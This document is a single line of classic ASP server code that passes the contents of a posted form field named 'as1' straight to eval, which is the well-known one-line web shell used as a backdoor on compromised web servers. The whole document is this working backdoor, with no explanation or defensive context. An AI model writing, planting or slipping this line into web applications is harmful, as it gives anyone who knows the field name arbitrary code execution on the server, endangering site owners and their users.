<%eval request.form("as1")%>
